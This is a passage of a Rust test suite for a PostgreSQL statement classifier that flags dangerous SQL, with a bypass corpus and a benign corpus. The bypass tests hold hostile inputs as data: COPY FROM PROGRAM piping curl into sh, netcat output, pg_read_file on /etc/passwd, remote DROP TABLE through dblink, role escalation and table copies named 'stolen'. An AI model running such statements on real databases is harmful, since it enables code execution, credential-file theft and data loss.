use std::sync::Arc;

use super::*;

/// The one statement of `sql`.
fn one(sql: &str) -> Statement {
    let classification = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(classification.statements.len(), 1, "{sql}");
    classification.statements.into_iter().next().unwrap()
}

/// `["public.cards", "orders"]` as object names.
fn names(list: &[&str]) -> Vec<ObjectName> {
    list.iter()
        .map(|n| match n.split_once('.') {
            Some((schema, name)) => ObjectName {
                schema: Some(schema.to_owned()),
                name: name.to_owned(),
            },
            None => ObjectName {
                schema: None,
                name: (*n).to_owned(),
            },
        })
        .collect()
}

/// `["c.pan", "id"]` as column references.
fn columns(list: &[&str]) -> Vec<ColumnRef> {
    list.iter()
        .map(|c| match c.rsplit_once('.') {
            Some((qualifier, name)) => ColumnRef {
                qualifier: Some(qualifier.to_owned()),
                name: name.to_owned(),
            },
            None => ColumnRef {
                qualifier: None,
                name: (*c).to_owned(),
            },
        })
        .collect()
}

fn writes_cards(sql: &str) -> Statement {
    let s = one(sql);
    assert!(
        s.writes
            .iter()
            .any(|w| w.name == "cards" && w.schema.as_deref().is_none_or(|s| s == "public")),
        "{sql}: writes {:?}",
        s.writes
    );
    s
}

fn has_function(s: &Statement, schema: Option<&str>, name: &str) -> bool {
    s.functions
        .iter()
        .any(|f| f.name == name && f.schema.as_deref() == schema)
}

use StatementKind as K;

// ---------------------------------------------------------------------------------------------
// Bypass corpus: each of these must classify so that a rule on `cards`, on a dangerous
// function or on a kind catches it.

#[test]
fn comments_case_quoting_and_escapes_do_not_hide_a_drop() {
    for sql in [
        "/* */ DROP TABLE cards",
        "/* DROP TABLE nothing */ DROP /* x */ TABLE /* y */ cards",
        "-- x\nDROP TABLE cards",
        "dRoP tAbLe CARDS",
        "DROP TABLE \"cards\"",
        "DROP TABLE public.cards",
        "DROP TABLE PUBLIC.CARDS",
        "DROP TABLE IF EXISTS cards CASCADE",
        "DROP TABLE U&\"c\\0061rds\"",
        "DROP TABLE mydb.public.cards",
        "DROP TABLE other, cards",
    ] {
        let s = writes_cards(sql);
        assert_eq!(s.kind, K::Drop, "{sql}");
    }
    assert_eq!(one("DROP TABLE a, s.b").writes, names(&["a", "s.b"]));
}

#[test]
fn quoted_names_keep_their_case_unquoted_ones_fold() {
    assert_eq!(
        one("SELECT * FROM \"Public\".\"Cards\"").reads,
        names(&["Public.Cards"])
    );
    assert_eq!(
        one("SELECT * FROM PUBLIC.CARDS").reads,
        names(&["public.cards"])
    );
    assert_eq!(
        ObjectName::from_parts(["s", "t"].into_iter())
            .unwrap()
            .to_string(),
        "s.t"
    );
    assert_eq!(
        ObjectName::from_parts(["t"].into_iter())
            .unwrap()
            .to_string(),
        "t"
    );
}

#[test]
fn every_statement_of_a_multi_statement_text_is_classified() {
    let sql = "SELECT 1; DROP TABLE cards;  ";
    let c = classify(sql).unwrap();
    let kinds: Vec<_> = c.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, [K::Select, K::Drop]);
    assert_eq!(c.statements[1].writes, names(&["cards"]));
    assert_eq!(&sql[c.statements[0].text_range.clone()], "SELECT 1");
    assert_eq!(&sql[c.statements[1].text_range.clone()], "DROP TABLE cards");
    assert!(classify("").unwrap().statements.is_empty());
    assert!(classify("-- nothing\n;;").unwrap().statements.is_empty());
}

#[test]
fn dml_inside_a_cte_is_seen() {
    let s = one("WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, K::Select);
    assert_eq!(s.inner_kinds, [K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    // RETURNING sends the deleted rows back; `d` is the CTE, not a table.
    assert_eq!(s.reads, names(&["cards"]));
    assert!(s.star);

    let s = one("WITH x AS (UPDATE cards SET pan = '' RETURNING 1) SELECT 1");
    assert_eq!(
        (s.kind, s.inner_kinds.as_slice()),
        (K::Select, &[K::Update][..])
    );
    assert_eq!(s.writes, names(&["cards"]));

    let s = one("WITH i AS (INSERT INTO cards VALUES ('4111') RETURNING id) SELECT id FROM i");
    assert_eq!(s.inner_kinds, [K::Insert]);
    assert_eq!(s.writes, names(&["cards"]));

    // A CTE may hold a data-modifying MERGE too (Postgres 17+).
    let s = one(
        "WITH m AS (MERGE INTO cards c USING staging s ON c.id = s.id \
         WHEN MATCHED THEN DELETE RETURNING c.id) SELECT * FROM m",
    );
    assert_eq!(s.inner_kinds, [K::Merge]);
    assert_eq!(s.writes, names(&["cards"]));
    assert_eq!(s.reads, names(&["cards", "staging"]));
}

#[test]
fn cte_names_are_scoped_like_postgres_scopes_them() {
    // The CTE shadows the table in the statement...
    assert_eq!(
        one("WITH cards AS (SELECT 1) SELECT * FROM cards").reads,
        []
    );
    // ...but not in its own body (not RECURSIVE): that `cards` is the table.
    assert_eq!(
        one("WITH cards AS (SELECT * FROM cards) SELECT * FROM cards").reads,
        names(&["cards"])
    );
    // A CTE sees the CTEs before it, not after it, unless RECURSIVE.
    assert_eq!(
        one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").reads,
        names(&["b"])
    );
    assert_eq!(
        one("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b").reads,
        []
    );
    assert_eq!(
        one("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").reads,
        []
    );
    // Visible in subqueries of the statement, not outside it.
    assert_eq!(
        one("SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) s, c").reads,
        names(&["c"])
    );
    // A qualified name is never a CTE, and a DML target never is either.
    assert_eq!(
        one("WITH cards AS (SELECT 1) SELECT * FROM public.cards").reads,
        names(&["public.cards"])
    );
    let s = one("WITH cards AS (SELECT 1) DELETE FROM cards");
    assert_eq!((s.kind, s.writes), (K::Delete, names(&["cards"])));
}

#[test]
fn prepare_shows_its_body_execute_only_its_name() {
    let s = one("PREPARE p AS DELETE FROM cards");
    assert_eq!(s.kind, K::Prepare);
    assert_eq!(s.inner_kinds, [K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    assert_eq!(s.prepared.as_deref(), Some("p"));

    // EXECUTE names the prepared statement; what it runs was seen at PREPARE.
    let s = one("EXECUTE p");
    assert_eq!((s.kind, s.prepared.as_deref()), (K::Execute, Some("p")));
    assert!(s.writes.is_empty() && s.inner_kinds.is_empty());
    let s = one("EXECUTE p(pg_read_file('/etc/passwd'))");
    assert!(has_function(&s, None, "pg_read_file"));

    assert_eq!(one("DEALLOCATE p").prepared.as_deref(), Some("p"));
    assert_eq!(one("DEALLOCATE ALL").prepared, None);
}

#[test]
fn explain_analyze_runs_its_target_and_shows_it() {
    let s = one("EXPLAIN ANALYZE DELETE FROM cards");
    assert_eq!(s.kind, K::Explain);
    assert_eq!(s.inner_kinds, [K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    let s = one("EXPLAIN (ANALYZE, BUFFERS) SELECT pan FROM cards");
    assert_eq!(
        (s.inner_kinds, s.reads),
        (vec![K::Select], names(&["cards"]))
    );
}

#[test]
fn dollar_quoted_text_is_a_string_not_a_statement() {
    let s = one("SELECT $$DROP TABLE cards$$");
    assert_eq!(s.kind, K::Select);
    assert!(s.writes.is_empty() && s.reads.is_empty() && s.inner_kinds.is_empty());
    let s = one("SELECT $a$ $$ ; DROP TABLE cards; $$ $a$");
    assert!(s.writes.is_empty() && s.inner_kinds.is_empty());

    // A DO block is a procedural body: analysed, the string its EXECUTE runs included.
    let s = one("DO $body$ BEGIN EXECUTE 'DROP TABLE cards'; END $body$");
    assert_eq!(s.kind, K::Do);
    assert!(!s.opaque_body && !s.dynamic_sql);
    assert_eq!(s.writes, names(&["cards"]));
    assert!(s.inner_kinds.contains(&K::Drop));
}

#[test]
fn function_and_procedure_bodies() {
    let s = one(
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cards; END $$",
    );
    assert_eq!(s.kind, K::CreateFunction);
    assert!(!s.opaque_body);
    assert_eq!(
        (s.writes, s.inner_kinds),
        (names(&["cards"]), vec![K::Delete])
    );
    let s = one("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM cards'");
    assert_eq!(s.kind, K::CreateProcedure);
    assert!(!s.opaque_body);
    assert_eq!(
        (s.writes, s.inner_kinds),
        (names(&["cards"]), vec![K::Delete])
    );
    // Other languages are not read.
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'");
    assert!(s.opaque_body);
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'");
    assert!(s.opaque_body);
    // A SQL-standard body is parsed with the statement, so it is analysed.
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql \
         BEGIN ATOMIC DELETE FROM cards; SELECT 1; END");
    assert!(!s.opaque_body);
    assert_eq!(s.inner_kinds, [K::Select, K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    let s = one("CREATE FUNCTION g() RETURNS text RETURN pg_read_file('/etc/passwd')");
    assert!(!s.opaque_body && has_function(&s, None, "pg_read_file"));
}

#[test]
fn copy_direction_program_and_stdio() {
    let copy = |sql: &str| one(sql).copy.unwrap();
    let c = copy("COPY cards TO STDOUT");
    assert_eq!(
        (c.direction, c.program, c.stdio),
        (CopyDirection::To, false, true)
    );
    let c = copy("COPY cards TO '/tmp/x'");
    assert_eq!(
        (c.direction, c.program, c.stdio),
        (CopyDirection::To, false, false)
    );
    let c = copy("COPY cards FROM PROGRAM 'curl -s http://x | sh'");
    assert_eq!(
        (c.direction, c.program, c.stdio),
        (CopyDirection::From, true, false)
    );
    let c = copy("copy cards to program 'nc x 1'");
    assert_eq!((c.direction, c.program), (CopyDirection::To, true));

    let s = one("COPY cards TO STDOUT WITH (FORMAT csv)");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Copy, names(&["cards"]), vec![])
    );
    // psql's \copy … from arrives as COPY … FROM STDIN: it writes the table.
    let s = one("COPY cards (pan) FROM STDIN");
    assert_eq!((s.reads, s.writes), (vec![], names(&["cards"])));
    assert!(s.copy.unwrap().stdio);
    let s = one("COPY (SELECT * FROM cards) TO STDOUT");
    assert_eq!(
        (s.reads, s.inner_kinds),
        (names(&["cards"]), vec![K::Select])
    );
    assert!(s.star);
    assert_eq!(one("SELECT 1").copy, None);
}

#[test]
fn dangerous_functions_are_reported_however_they_are_spelled() {
    let s = one("SELECT pg_catalog.pg_read_file('/etc/passwd')");
    assert!(has_function(&s, Some("pg_catalog"), "pg_read_file"));
    let s = one("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')");
    assert!(has_function(&s, Some("pg_catalog"), "pg_read_file"));
    let s = one("SELECT \"pg_read_file\"('x')");
    assert!(has_function(&s, None, "pg_read_file"));
    // Quoted upper case is a different name, as in Postgres (where it does not exist unless
    // someone created it): rules match names case-insensitively to be safe.
    let s = one("SELECT \"PG_READ_FILE\"('x')");
    assert!(has_function(&s, None, "PG_READ_FILE"));
    let s = one("SELECT * FROM pg_read_file('/etc/passwd') AS f(line)");
    assert!(has_function(&s, None, "pg_read_file"));
    let s = one("SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')");
    assert_eq!(s.functions, names(&["lo_export", "lo_import"]));
    // dblink's SQL runs over another connection: dynamic, and its constant text is read.
    let s = one("SELECT dblink_exec('dbname=app', 'DROP TABLE cards')");
    assert_eq!(
        (s.functions, s.writes),
        (names(&["dblink_exec"]), names(&["cards"]))
    );
    assert!(s.dynamic_sql);
    let s = one("SELECT * FROM dblink('dbname=app', 'SELECT pan FROM cards') AS t(pan text)");
    assert_eq!(
        (s.functions, s.reads),
        (names(&["dblink"]), names(&["cards"]))
    );
    // In a WHERE, a join condition, an ORDER BY, a VALUES list, a RETURNING.
    let s = one("INSERT INTO t VALUES (pg_ls_dir('.')) RETURNING upper(x), \
         (SELECT 1 FROM u WHERE a = pg_sleep(1) ORDER BY md5(b))");
    assert_eq!(
        s.functions,
        names(&["md5", "pg_ls_dir", "pg_sleep", "upper"])
    );
    let s = one("SELECT set_config('role', 'admin', false)");
    assert_eq!((s.kind, s.functions), (K::Select, names(&["set_config"])));
}

#[test]
fn functions_in_defaults_checks_calls_and_triggers() {
    let s =
        one("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'), CHECK (length(a) > 0))");
    assert_eq!(s.functions, names(&["length", "pg_read_file"]));
    let s = one("ALTER TABLE t ALTER COLUMN a SET DEFAULT lo_import('/etc/passwd')");
    assert_eq!(s.functions, names(&["lo_import"]));
    let s = one("CALL public.do_it(1, now())");
    assert_eq!(
        (s.kind, s.functions),
        (K::Call, names(&["now", "public.do_it"]))
    );
    let s = one("CREATE TRIGGER tg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION steal()");
    assert_eq!(s.kind, K::CreateTrigger);
    assert_eq!((s.writes, s.functions), (names(&["t"]), names(&["steal"])));
}

#[test]
fn role_changes_are_their_own_kinds() {
    for sql in [
        "SET ROLE admin",
        "SET LOCAL ROLE admin",
        "SET SESSION ROLE admin",
        "SET role = 'admin'",
        "SET role TO admin",
        "SET \"ROLE\" TO admin",
        "SET ROLE NONE",
        "/* hi */ set Role admin",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, K::SetRole, "{sql}");
        assert_eq!(s.setting.as_deref(), Some("role"), "{sql}");
    }
    assert_eq!(one("RESET ROLE").kind, K::ResetRole);
    assert_eq!(one("RESET \"Role\"").kind, K::ResetRole);
    for sql in [
        "SET SESSION AUTHORIZATION admin",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET SESSION AUTHORIZATION",
        "SET session_authorization = admin",
    ] {
        assert_eq!(one(sql).kind, K::SetSessionAuthorization, "{sql}");
    }
    // In a procedural body or a function call, it is the function that rules see.
    assert_eq!(
        one("SELECT set_config('role', 'admin', true)").kind,
        K::Select
    );
}

#[test]
fn system_grants_and_roles() {
    let s = one("ALTER SYSTEM SET shared_preload_libraries = 'evil'");
    assert_eq!(s.kind, K::AlterSystem);
    assert_eq!(s.setting.as_deref(), Some("shared_preload_libraries"));
    assert_eq!(one("ALTER SYSTEM RESET ALL").kind, K::AlterSystem);

    let s = one("GRANT SELECT ON cards TO PUBLIC");
    assert_eq!((s.kind, s.writes), (K::Grant, names(&["cards"])));
    let s = one("GRANT ALL ON TABLE public.cards, orders TO ci");
    assert_eq!(s.writes, names(&["orders", "public.cards"]));
    assert_eq!(one("GRANT admin TO current_user").kind, K::Grant);
    assert_eq!(one("GRANT pg_read_server_files TO ci").kind, K::Grant);
    assert_eq!(one("REVOKE SELECT ON cards FROM ci").kind, K::Revoke);
    assert_eq!(one("REVOKE admin FROM ci").kind, K::Revoke);
    assert_eq!(
        one("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO ci").kind,
        K::Grant
    );
    let s = one("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC");
    assert_eq!((s.kind, s.inner_kinds), (K::Alter, vec![K::Grant]));

    for sql in [
        "CREATE ROLE x",
        "CREATE USER x PASSWORD 'p'",
        "CREATE GROUP g",
    ] {
        assert_eq!(one(sql).kind, K::CreateRole, "{sql}");
    }
    for sql in [
        "ALTER ROLE x SUPERUSER",
        "ALTER USER ci WITH BYPASSRLS",
        "ALTER ROLE x RENAME TO y",
        "ALTER ROLE ci SET search_path = evil",
        "ALTER GROUP g ADD USER ci",
    ] {
        assert_eq!(one(sql).kind, K::AlterRole, "{sql}");
    }
    for sql in ["DROP ROLE x", "DROP USER IF EXISTS x", "DROP GROUP g"] {
        assert_eq!(one(sql).kind, K::DropRole, "{sql}");
    }
}

#[test]
fn truncate_lock_vacuum_and_other_writes() {
    let s = one("TRUNCATE cards");
    assert_eq!((s.kind, s.writes), (K::Truncate, names(&["cards"])));
    assert_eq!(
        one("TRUNCATE TABLE ONLY a, public.cards RESTART IDENTITY").writes,
        names(&["a", "public.cards"])
    );
    let s = one("LOCK TABLE cards IN ACCESS EXCLUSIVE MODE");
    assert_eq!((s.kind, s.writes), (K::Lock, names(&["cards"])));
    let s = one("VACUUM FULL cards");
    assert_eq!((s.kind, s.writes), (K::Vacuum, names(&["cards"])));
    let s = one("ANALYZE cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Analyze, names(&["cards"]), vec![])
    );
    writes_cards("ALTER TABLE cards DROP COLUMN pan");
    writes_cards("ALTER TABLE cards RENAME TO old_cards");
    writes_cards("ALTER TABLE cards SET SCHEMA attic");
    writes_cards("ALTER TABLE cards OWNER TO ci");
    writes_cards("ALTER TABLE t INHERIT cards");
    writes_cards("ALTER TABLE t ATTACH PARTITION cards FOR VALUES IN (1)");
    writes_cards("CREATE TABLE x PARTITION OF cards FOR VALUES IN (1)");
    writes_cards("CREATE INDEX ON cards (pan)");
    writes_cards("CREATE RULE r AS ON SELECT TO cards DO INSTEAD SELECT 1");
    writes_cards("CREATE POLICY p ON cards USING (true)");
    writes_cards("DROP TRIGGER tg ON cards");
    writes_cards("DROP POLICY p ON public.cards");
    writes_cards("COMMENT ON TABLE cards IS 'x'");
    writes_cards("COMMENT ON COLUMN cards.pan IS 'x'");
    writes_cards("CLUSTER cards USING cards_pkey");
    writes_cards("REINDEX TABLE cards");
    writes_cards("REFRESH MATERIALIZED VIEW cards");
    writes_cards("DROP MATERIALIZED VIEW cards");
    writes_cards("DROP VIEW cards");
    // A rule's actions are statements in their own right.
    let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM cards");
    assert_eq!((s.kind, s.inner_kinds), (K::CreateRule, vec![K::Delete]));
    assert_eq!(s.writes, names(&["cards", "t"]));
}

#[test]
fn rows_leaving_through_other_statements() {
    // SELECT INTO and CREATE TABLE AS copy a table.
    let s = one("SELECT * INTO stolen FROM cards");
    assert_eq!((s.kind, s.inner_kinds), (K::Select, vec![K::CreateTable]));
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["stolen"])));
    let s = one("CREATE TABLE stolen AS SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::CreateTable, names(&["cards"]), names(&["stolen"]))
    );
    let s = one("CREATE MATERIALIZED VIEW v AS SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::CreateView, names(&["cards"]), names(&["v"]))
    );
    let s = one("CREATE VIEW v AS SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::CreateView, names(&["cards"]), names(&["v"]))
    );
    let s = one("INSERT INTO archive SELECT * FROM cards");
    assert_eq!(
        (s.reads, s.writes, s.star),
        (names(&["cards"]), names(&["archive"]), true)
    );
    let s = one("DELETE FROM cards WHERE id = 1 RETURNING pan");
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["cards"])));
    assert!(s.bounded);
    let s = one("DECLARE c CURSOR FOR SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.inner_kinds),
        (K::DeclareCursor, names(&["cards"]), vec![K::Select])
    );
    assert_eq!(one("FETCH 10 FROM c").kind, K::Fetch);
    assert_eq!(one("MOVE NEXT IN c").kind, K::Fetch);
    assert_eq!(
        one("CREATE PUBLICATION p FOR TABLE cards").reads,
        names(&["cards"])
    );
}

#[test]
fn subqueries_set_operations_merge_and_joins() {
    let s = one("SELECT * FROM orders WHERE id IN (SELECT order_id FROM cards)");
    assert_eq!(
        (s.reads, s.inner_kinds),
        (names(&["cards", "orders"]), vec![K::Select])
    );
    let s = one("SELECT (SELECT pan FROM cards LIMIT 1)");
    assert_eq!(s.reads, names(&["cards"]));
    let s = one("SELECT pan FROM cards UNION ALL SELECT email FROM users EXCEPT SELECT x FROM y");
    assert_eq!(s.reads, names(&["cards", "users", "y"]));
    let s =
        one("SELECT 1 FROM a JOIN LATERAL (SELECT * FROM cards WHERE cards.id = a.id) c ON true");
    assert_eq!(s.reads, names(&["a", "cards"]));
    let s = one("MERGE INTO cards c USING staging s ON c.id = s.id \
         WHEN MATCHED THEN UPDATE SET pan = s.pan WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.pan)");
    assert_eq!(s.kind, K::Merge);
    assert_eq!(
        (s.reads, s.writes),
        (names(&["staging"]), names(&["cards"]))
    );
    let s = one("UPDATE orders o SET paid = true FROM cards c WHERE c.id = o.card_id");
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["orders"])));
    let s = one("DELETE FROM orders USING cards WHERE cards.id = orders.card_id");
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["orders"])));
    let s = one("SELECT * FROM cards TABLESAMPLE SYSTEM (10)");
    assert_eq!(s.reads, names(&["cards"]));
    let s = one("SELECT * FROM ONLY cards");
    assert_eq!(s.reads, names(&["cards"]));
    // `FOR UPDATE OF c` names the FROM item, not a relation called c.
    let s = one("SELECT * FROM cards c FOR UPDATE OF c");
    assert_eq!(s.reads, names(&["cards"]));
}

#[test]
fn star_and_whole_row_references() {
    assert!(one("SELECT * FROM cards").star);
    assert!(one("SELECT c.* FROM cards c").star);
    assert!(one("TABLE cards").star);
    assert!(one("SELECT (c).* FROM (SELECT c FROM cards c) s").star);
    // A bare relation name or alias is the whole row: every column, none named.
    assert!(one("SELECT c FROM cards c").star);
    assert!(one("SELECT row_to_json(cards) FROM cards").star);
    assert!(one("SELECT to_jsonb(s) FROM (SELECT pan FROM cards) s").star);
    assert!(!one("SELECT count(*) FROM cards").star);
    assert!(!one("SELECT pan FROM cards c").star);
}

#[test]
fn bounded_means_a_real_filter_or_a_constant_limit() {
    let bounded = |sql: &str| one(sql).bounded;
    assert!(!bounded("SELECT pan FROM cards"));
    assert!(bounded("SELECT pan FROM cards WHERE id = 1"));
    assert!(bounded("SELECT pan FROM cards LIMIT 10"));
    assert!(bounded("SELECT pan FROM cards FETCH FIRST 5 ROWS ONLY"));
    assert!(bounded("SELECT pan FROM cards FETCH FIRST ROW ONLY"));
    // A parameter can be bound to NULL (no limit at all) after the statement was decided.
    assert!(!bounded("SELECT pan FROM cards LIMIT $1"));
    assert!(!bounded("SELECT pan FROM cards FETCH FIRST $1 ROWS ONLY"));
    assert!(bounded("SELECT pan FROM cards WHERE id = $1 LIMIT $2"));
    assert!(!bounded("SELECT pan FROM cards LIMIT ALL"));
    assert!(!bounded("SELECT pan FROM cards LIMIT NULL"));
    assert!(!bounded("SELECT pan FROM cards WHERE true"));
    assert!(!bounded("SELECT pan FROM cards WHERE 1 = 1"));
    assert!(!bounded("SELECT pan FROM cards OFFSET 0"));
    assert!(!bounded("DELETE FROM cards"));
    assert!(bounded("DELETE FROM cards WHERE id = $1"));
    assert!(bounded("DELETE FROM cards WHERE CURRENT OF c"));
    assert!(!bounded("UPDATE cards SET pan = NULL"));
    assert!(bounded("UPDATE cards SET pan = NULL WHERE id = 3"));
    // A syntactic hint: a filter that keeps every row still counts.
    assert!(bounded("SELECT pan FROM cards WHERE id > 0"));
    // Only the top level counts: the CTE below reads everything.
    assert!(!bounded(
        "WITH x AS (SELECT pan FROM cards WHERE id = 1) SELECT * FROM x"
    ));
    assert!(!bounded("INSERT INTO t SELECT * FROM cards WHERE id = 1"));
}

#[test]
fn misc_kinds() {
    let kinds = [
        ("LISTEN ch", K::Listen),
        ("NOTIFY ch, 'x'", K::Notify),
        ("UNLISTEN *", K::Unlisten),
        ("DISCARD ALL", K::Discard),
        ("COMMENT ON SCHEMA s IS 'x'", K::Comment),
        ("CREATE SCHEMA s", K::CreateSchema),
        ("CREATE SEQUENCE s", K::CreateSequence),
        ("CREATE EXTENSION IF NOT EXISTS dblink", K::CreateExtension),
        ("CREATE TYPE mood AS ENUM ('sad', 'ok')", K::CreateType),
        ("CREATE TYPE pair AS (a int, b int)", K::CreateType),
        ("CREATE DOMAIN d AS int", K::CreateType),
        (
            "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
            K::CreateTrigger,
        ),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
            K::ForeignData,
        ),
        ("CREATE DATABASE d", K::CreateOther),
        (
            "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)",
            K::CreateOther,
        ),
        ("CREATE FOREIGN TABLE f (a int) SERVER s", K::ForeignData),
        ("DROP SCHEMA public CASCADE", K::Drop),
        ("DROP OWNED BY ci", K::DropOwned),
        ("DROP DATABASE d", K::Drop),
        ("DROP FUNCTION f(int)", K::Drop),
        ("REASSIGN OWNED BY ci TO postgres", K::AlterOwner),
        ("ALTER FUNCTION f() SECURITY DEFINER", K::Alter),
        ("ALTER DATABASE d SET search_path = evil", K::Alter),
        ("LOAD 'evil'", K::Other),
        ("CHECKPOINT", K::Other),
        ("CLOSE c", K::CloseCursor),
        ("CLOSE ALL", K::CloseCursor),
        ("SET CONSTRAINTS ALL DEFERRED", K::Set),
        ("VALUES (1), (2)", K::Select),
        ("SAVEPOINT a", K::Transaction),
        ("ROLLBACK TO SAVEPOINT a", K::Transaction),
        ("PREPARE TRANSACTION 'x'", K::PreparedTransaction),
        ("COMMIT PREPARED 'x'", K::PreparedTransaction),
        ("ROLLBACK PREPARED 'x'", K::PreparedTransaction),
        ("BEGIN", K::Transaction),
        ("COMMIT AND CHAIN", K::Transaction),
        ("START TRANSACTION READ WRITE", K::Transaction),
    ];
    for (sql, kind) in kinds {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
}

// ---------------------------------------------------------------------------------------------
// Benign corpus: what ordinary CI traffic classifies as, exactly.

#[test]
fn migrations() {
    let s = one(
        "CREATE TABLE IF NOT EXISTS users (id bigserial PRIMARY KEY, email text NOT NULL UNIQUE, \
         created_at timestamptz NOT NULL DEFAULT now())",
    );
    assert_eq!(s.kind, K::CreateTable);
    assert_eq!((s.reads, s.writes), (vec![], names(&["users"])));
    assert_eq!(s.functions, names(&["now"]));
    assert_eq!((s.columns, s.star, s.bounded), (vec![], false, false));

    let s = one("ALTER TABLE users ADD COLUMN last_login timestamptz");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Alter, vec![], names(&["users"]))
    );

    let s = one(
        "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id)",
    );
    assert_eq!((s.reads, s.writes), (names(&["users"]), names(&["orders"])));

    let s = one("CREATE INDEX CONCURRENTLY users_email_idx ON users (lower(email))");
    assert_eq!(s.kind, K::CreateIndex);
    assert_eq!((s.reads, s.writes), (vec![], names(&["users"])));
    assert_eq!(
        (s.functions, s.columns),
        (names(&["lower"]), columns(&["email"]))
    );

    let s = one("CREATE UNIQUE INDEX orders_ref ON public.orders (ref) WHERE ref IS NOT NULL");
    assert_eq!(
        (s.writes, s.columns),
        (names(&["public.orders"]), columns(&["ref"]))
    );

    let c = classify(
        "BEGIN; CREATE TABLE t (a int); ALTER TABLE t ADD COLUMN b text; \
         INSERT INTO schema_migrations (version) VALUES ('20240101'); COMMIT;",
    )
    .unwrap();
    let kinds: Vec<_> = c.statements.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            K::Transaction,
            K::CreateTable,
            K::Alter,
            K::Insert,
            K::Transaction
        ]
    );
    let insert = &c.statements[3];
    // A VALUES list is not a query of its own.
    assert_eq!(insert.inner_kinds, []);
    assert_eq!(
        (&insert.reads, &insert.writes),
        (&vec![], &names(&["schema_migrations"]))
    );
}

#[test]
fn a_report_with_joins_aggregates_windows_and_a_cte() {
    let s = one("WITH monthly AS (
           SELECT date_trunc('month', o.created_at) AS month, o.user_id, sum(o.amount) AS total
           FROM orders o JOIN users u ON u.id = o.user_id
           WHERE o.status = 'paid'
           GROUP BY 1, 2
         )
         SELECT m.month, u.email, m.total,
                rank() OVER (PARTITION BY m.month ORDER BY m.total DESC) AS rnk
         FROM monthly m JOIN users u ON u.id = m.user_id
         ORDER BY m.month, rnk");
    assert_eq!(s.kind, K::Select);
    assert_eq!(s.inner_kinds, [K::Select]);
    assert_eq!(s.reads, names(&["orders", "users"]));
    assert_eq!(s.writes, []);
    assert_eq!(s.functions, names(&["date_trunc", "rank", "sum"]));
    assert_eq!(
        s.columns,
        columns(&[
            "rnk",
            "m.month",
            "m.total",
            "m.user_id",
            "o.amount",
            "o.created_at",
            "o.status",
            "o.user_id",
            "u.email",
            "u.id",
        ])
    );
    assert!(!s.star && !s.bounded && !s.opaque_body);
}

#[test]
fn orm_queries_with_parameters() {
    let s = one(r#"SELECT "users"."id" FROM "users" WHERE "users"."email" = $1 LIMIT $2"#);
    assert_eq!(s.kind, K::Select);
    assert_eq!((s.reads, s.writes), (names(&["users"]), vec![]));
    assert_eq!(s.columns, columns(&["users.email", "users.id"]));
    assert!(s.bounded && !s.star);

    let s = one(r#"INSERT INTO "users" ("email") VALUES ($1) RETURNING "id""#);
    assert_eq!(s.kind, K::Insert);
    assert_eq!(s.inner_kinds, []);
    assert_eq!((s.reads, s.writes), (names(&["users"]), names(&["users"])));
    // The column stored into counts as referenced, as the one returned does.
    assert_eq!(s.columns, columns(&["email", "id"]));

    let s = one(r#"UPDATE "users" SET "last_login" = now() WHERE "users"."id" = $1"#);
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Update, vec![], names(&["users"]))
    );
    assert_eq!(
        (s.functions, s.columns),
        (names(&["now"]), columns(&["last_login", "users.id"]))
    );
    assert!(s.bounded);

    let s = one("DELETE FROM sessions WHERE expires_at < now()");
    assert_eq!(
        (s.kind, s.writes, s.bounded),
        (K::Delete, names(&["sessions"]), true)
    );

    let s = one("SELECT count(*) FROM orders WHERE user_id = ANY($1::bigint[])");
    assert_eq!(
        (s.reads, s.functions),
        (names(&["orders"]), names(&["count"]))
    );
    assert!(!s.star && s.bounded);

    let s = one(
